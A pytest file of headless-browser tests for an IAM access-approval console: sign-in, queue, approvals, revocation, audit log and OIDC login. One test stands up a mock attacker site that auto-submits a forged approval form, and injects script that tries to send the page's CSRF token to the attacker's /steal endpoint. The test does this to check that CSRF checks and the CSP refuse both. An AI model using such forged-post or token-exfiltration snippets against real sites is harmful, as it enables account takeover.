"""The console in a real headless Chromium: sign in (local mode and OIDC), the live queue, approve, deny, the
self-approval refusal, revoke, explain, the audit log, and forged posts refused by CSRF checks and the CSP.

One browser for the session and one served app per mode; each test files its own requests through the JSON API.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask, request

from tests.conftest import bearer
from tests.console.browser import Browser, available
from tests.console.conftest import file_request, put_policy
from tests.standins.oidc_issuer import OidcIssuer
from tests.support.apps import kagiya_app
from tests.support.threaded import ThreadedServer

pytestmark = [pytest.mark.slow, pytest.mark.skipif(bool(available()), reason=available() or "-")]

TOKENS = ('admin-token-0001,alice,uid-alice,"kagiya:admins,platform"\n'
          'dev-token-0002,bob,uid-bob,"team-a"\n'
          'approver-token-0003,carol,uid-carol,"approvers,team-a"\n')


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    b = Browser()
    yield b
    b.quit()


def _serve(tmp: Path, overrides: dict[str, Any]) -> Iterator[tuple[Any, str]]:
    from kagiya.config import load_settings

    (tmp / "tokens.csv").write_text(TOKENS)
    base: dict[str, Any] = {"data_dir": str(tmp / "data"), "log_level": "WARNING",
                            "authn": {"token_file": str(tmp / "tokens.csv")}, "console": {"poll_seconds": 0.5}}
    for key, value in overrides.items():
        base[key] = {**base.get(key, {}), **value} if isinstance(value, dict) else value
    with kagiya_app(load_settings(env={}, overrides=base)) as app:
        put_policy(app.test_client())
        server = ThreadedServer(app, "kagiya-console").start()
        try:
            yield app, server.url
        finally:
            server.stop()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, str]]:
    """The embedded default: no issuer, static-token sign-in (local mode); a local key for the encrypt page."""
    from kagiya.config import load_settings
    from kagiya.secrets.keys import local

    tmp = tmp_path_factory.mktemp("console-static")
    secrets = {"keyring": str(tmp / "keyring"), "default_recipients": ["local:team-a"]}
    local.generate(load_settings(env={}, overrides={"secrets": secrets}).section("secrets"), "team-a")
    yield from _serve(tmp, {"secrets": secrets})


@pytest.fixture
def b(browser: Browser) -> Browser:
    browser.fresh()
    return browser


def sign_in(b: Browser, url: str, token: str) -> None:
    b.go(url + "/ui/")
    b.wait_for("#token").send_keys(token)
    b.find("form.stack button[type=submit]").click()
    b.wait_for("#queue")


def state_of(app: Any, rid: int) -> dict[str, Any]:
    return app.test_client().get(f"/v1/iam/binding-requests/{rid}", headers=bearer("dev-token-0002")).get_json()


def test_static_sign_in_is_marked_local(b: Browser, site: tuple[Any, str]) -> None:
    _, url = site
    b.go(url + "/ui/requests")
    b.wait_for("#token")
    assert b.driver.current_url.endswith("/ui/signin")
    assert "Local mode" in b.text()
    assert b.driver.switch_to.active_element.get_attribute("id") == "token"  # focus starts in the form
    b.screenshot("console-signin")
    b.find("#token").send_keys("approver-token-0003")
    b.find("form.stack button[type=submit]").click()
    b.wait_for("#queue")
    assert "carol" in b.find(".who").text


def test_pending_request_appears_without_reload_and_is_approved(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    sign_in(b, url, "approver-token-0003")
    b.driver.execute_script("window.kagiyaNoReload = 42;")
    rid = file_request(app.test_client(), reason="reads the reports bucket")
    card = b.wait_for(f"#request-{rid}", timeout=10)
    assert b.driver.execute_script("return window.kagiyaNoReload;") == 42  # the page was not reloaded
    assert "reads the reports bucket" in card.text and "bob" in card.text and "allowed" in card.text
    b.wait(lambda: "new pending request" in b.find("#queue-status").text, what="live-region announcement")
    b.find(f"#request-{rid} summary").click()
    assert "service account team-a/web" in b.find(f"#request-{rid} pre.explain").text
    b.screenshot("console-requests")
    b.find(f"#comment-{rid}").send_keys("ok for Q3")
    later = file_request(app.test_client(), sa="later")
    time.sleep(1.5)  # three refresh periods: the list waits while a comment is being written
    assert not b.find_all(f"#request-{later}") and b.find(f"#comment-{rid}").get_attribute("value") == "ok for Q3"
    b.find(f"#request-{rid} button.approve").click()
    b.wait(lambda: f"Request {rid} approved." in b.text(), what="approval notice")
    got = state_of(app, rid)
    assert got["state"] == "approved" and got["decidedBy"] == "carol" and got["decisionReason"] == "ok for Q3"


def test_own_request_cannot_be_approved(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    rid = file_request(app.test_client(), "approver-token-0003", sa="batch")
    sign_in(b, url, "approver-token-0003")
    card = b.wait_for(f"#request-{rid}")
    assert "This is your own request." in card.text
    b.find(f"#request-{rid} button.approve").click()
    alert = b.wait_for(".error[role=alert]")
    assert "may not approve their own request" in alert.text
    assert state_of(app, rid)["state"] == "pending"


def test_deny_with_a_comment(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    rid = file_request(app.test_client(), sa="cron")
    sign_in(b, url, "approver-token-0003")
    b.wait_for(f"#comment-{rid}").send_keys("use the shared reader role")
    b.find(f"#request-{rid} button.deny").click()
    b.wait(lambda: f"Request {rid} denied." in b.text(), what="denial notice")
    got = state_of(app, rid)
    assert got["state"] == "denied" and got["decisionReason"] == "use the shared reader role"


def test_revoke_a_binding_and_explain(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    client = app.test_client()
    rid = file_request(client, sa="reports")
    client.post(f"/v1/iam/binding-requests/{rid}/approve", headers=bearer("approver-token-0003"), json={})
    bid = state_of(app, rid)["bindingId"]
    sign_in(b, url, "approver-token-0003")
    b.go(url + "/ui/explain")
    b.find("#e-namespace").send_keys("team-a")
    b.find("#e-sa").send_keys("reports")
    b.submit("form.filters button", "serviceAccount=reports")
    lines = b.wait_for("pre.explain").text
    assert f"aws: arn:aws:iam::123456789012:role/team-a-reader from binding:{bid}" in lines
    b.screenshot("console-explain")
    b.go(url + "/ui/bindings")
    b.find("#f-namespace").send_keys("team-a")
    b.find("#f-sa").send_keys("reports")
    b.submit("form.filters button", "serviceAccount=reports")
    b.wait_for(f"#binding-{bid}")
    assert len(b.find_all("tbody tr")) == 1
    b.screenshot("console-bindings")
    b.find(f"#reason-{bid}").send_keys("project ended")
    b.find(f"#binding-{bid} button.deny").click()
    b.wait(lambda: f"Binding {bid} revoked." in b.text(), what="revoke notice")
    got = client.get(f"/v1/iam/bindings/{bid}", headers=bearer("dev-token-0002")).get_json()
    assert got["state"] == "revoked" and got["revokedBy"] == "carol"


def test_audit_log_filters_and_event_details(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    rid = file_request(app.test_client(), sa="audited")
    app.test_client().post(f"/v1/iam/binding-requests/{rid}/deny", headers=bearer("approver-token-0003"),
                           json={"reason": "no"})
    sign_in(b, url, "admin-token-0001")
    b.go(url + "/ui/audit")
    b.find("#a-actor").send_keys("carol")
    b.find("#a-action").send_keys("iam.request")
    b.submit("form.filters button", "actor=carol")
    rows = b.find_all("tr.event")
    assert rows and all("carol" in r.text and "iam.request." in r.text for r in rows)
    b.screenshot("console-audit")
    rows[-1].find_element("css selector", "a").click()
    b.wait(lambda: "Audit event" in b.find("h1").text, what="event page")
    assert "iam.request.deny" in b.text() and f"iam/binding-requests/{rid}" in b.text()
    b.screenshot("console-event")
    b.find(".signout button").click()
    b.wait_for("#token")


def test_forged_posts_are_refused_by_csrf_and_csp(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    rid = file_request(app.test_client(), sa="forged")
    received: list[bytes] = []
    evil = Flask("evil")

    @evil.get("/")
    def forge() -> str:  # another origin posting to the console with the victim's cookie
        return (f'<form id="f" method="post" action="{url}/ui/requests/{rid}/approve">'
                '<input name="comment" value="pwned"></form><script>document.getElementById("f").submit()</script>')

    @evil.post("/steal")
    def steal() -> str:
        received.append(request.get_data())
        return "thanks"

    attacker = ThreadedServer(evil, "evil-site").start()
    try:
        sign_in(b, url, "approver-token-0003")
        b.go(attacker.url + "/")
        b.wait(lambda: "refused" in b.text(), what="forged post refused")
        assert state_of(app, rid)["state"] == "pending"
        # Injected markup on a console page can neither run inline script nor post a form to another origin.
        b.go(url + "/ui/requests")
        b.wait_for("#queue")
        b.driver.execute_script(
            "var s = document.createElement('script'); s.textContent = 'window.kagiyaInline = 1;';"
            "document.body.appendChild(s);")
        assert b.driver.execute_script("return window.kagiyaInline === undefined;")
        b.driver.execute_script(
            f"var f = document.createElement('form'); f.method = 'post'; f.action = '{attacker.url}/steal';"
            "var i = document.createElement('input'); i.name = 'csrf_token';"
            "i.value = document.querySelector('[name=csrf_token]').value; f.appendChild(i);"
            "document.body.appendChild(f); f.submit();")
        time.sleep(1.0)
        assert received == []
        assert b.driver.current_url.startswith(url)
    finally:
        attacker.stop()


def test_encrypt_page(b: Browser, site: tuple[Any, str]) -> None:
    _, url = site
    sign_in(b, url, "dev-token-0002")
    b.go(url + "/ui/encrypt")
    b.find("#s-name").send_keys("db")
    b.find("#s-namespace").send_keys("team-a")
    b.find("#s-values").send_keys("password=Typed-In-Browser-77")
    assert b.find("#r-1").is_selected()
    b.find("form.stack button[type=submit]").click()
    result = b.wait_for("#result").get_attribute("value")
    assert "# kagiya:local:team-a:" in result and "Typed-In-Browser-77" not in b.driver.page_source
    b.screenshot("console-encrypt")


def test_queue_fits_a_phone_screen(b: Browser, site: tuple[Any, str]) -> None:
    app, url = site
    rid = file_request(app.test_client(), sa="phone", reason="a long reason " * 6)
    sign_in(b, url, "approver-token-0003")
    b.driver.set_window_size(390, 844)
    try:
        b.go(url + "/ui/requests")
        b.wait_for(f"#request-{rid}")
        overflow = b.driver.execute_script("return document.documentElement.scrollWidth - window.innerWidth;")
        assert overflow <= 0, f"the page is {overflow}px wider than a phone screen"
        b.screenshot("console-phone")
    finally:
        b.driver.set_window_size(1100, 800)


@pytest.fixture(scope="module")
def oidc_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, str, OidcIssuer]]:
    """OIDC mode against the issuer stand-in; served as `localhost` so its cookies never mix with `site`'s."""
    idp = OidcIssuer()
    idp.start()
    idp.login_as = {"sub": "dana", "email": "dana@example.com", "groups": ["approvers"]}
    provider = {"type": "oidc", "name": "corp", "issuer": idp.url, "audiences": ["kagiya"]}
    try:
        for app, url in _serve(tmp_path_factory.mktemp("console-oidc"), {"authn": {"providers": [provider]}}):
            yield app, url.replace("127.0.0.1", "localhost"), idp
    finally:
        idp.stop()


def test_oidc_sign_in_with_pkce(b: Browser, oidc_site: tuple[Any, str, OidcIssuer]) -> None:
    app, url, idp = oidc_site
    rid = file_request(app.test_client(), sa="oidc")
    b.go(url + "/ui/")
    link = b.wait_for("a.button")
    assert idp.url in link.text and "Local mode" not in b.text() and not b.find_all("#token")
    b.screenshot("console-signin-oidc")
    link.click()
    b.wait_for(f"#request-{rid}")
    assert b.find(".who").text == "dana"
    assert idp.hits["token"] >= 1
    b.find(f"#request-{rid} button.approve").click()
    b.wait(lambda: f"Request {rid} approved." in b.text(), what="approval notice")
    assert state_of(app, rid)["decidedBy"] == "dana"
    b.find(".signout button").click()
    b.wait_for("a.button")
    b.go(url + "/ui/requests")
    assert b.driver.current_url.endswith("/ui/signin")
